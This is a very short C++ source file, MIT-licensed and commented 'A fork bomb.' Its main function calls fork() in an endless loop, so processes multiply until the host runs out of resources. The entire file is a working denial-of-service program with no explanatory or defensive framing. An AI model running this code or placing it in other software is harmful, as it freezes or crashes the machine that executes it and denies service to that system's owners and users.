// SPDX-License-Identifier: MIT
// A fork bomb.
#include <unistd.h>

int main() {
  for (;;) ::fork();
}
